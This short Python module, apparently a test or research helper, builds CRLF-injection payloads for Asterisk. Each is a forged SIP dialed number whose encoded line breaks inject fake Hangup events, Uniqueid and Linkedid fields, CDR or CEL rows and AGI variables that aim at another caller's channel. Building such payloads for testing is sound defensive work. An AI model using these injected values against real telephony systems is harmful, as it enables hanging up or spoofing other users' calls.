"""Numbers that a hostile phone dials: Asterisk copies their line breaks into its events.

Each tries to change a channel that is not the caller's. SIP writes a line break as %0d%0a.
"""

from urllib.parse import quote

_FORGERIES = {
    "event": "0\n\nEvent: Hangup\nUniqueid: {victim}\nX: ",
    "uniqueid": "0\nPriority: 1\nUniqueid: {victim}\nLinkedid: 1",
    "message": "0\nPriority: 1\nUniqueid: {victim}\nLinkedid: 1.1\n",
    "row": "0\n\nEvent: CoreShowChannel\nActionID: in-full-swing\nUniqueid: {victim}",
    "journal": '0",""\n"HANGUP","1795222182.361162","{victim}","',
    "request": "0\nagi_uniqueid: {victim}\nagi_arg_1: acme\n\n",
}
NAMES = tuple(_FORGERIES)


def forged(name: str, victim: str) -> str:
    """Return that number, aimed at the channel with this Uniqueid, as the user of a SIP address."""
    written = _FORGERIES[name].format(victim=victim).replace("\n", "\r\n")
    return quote(written, safe="")
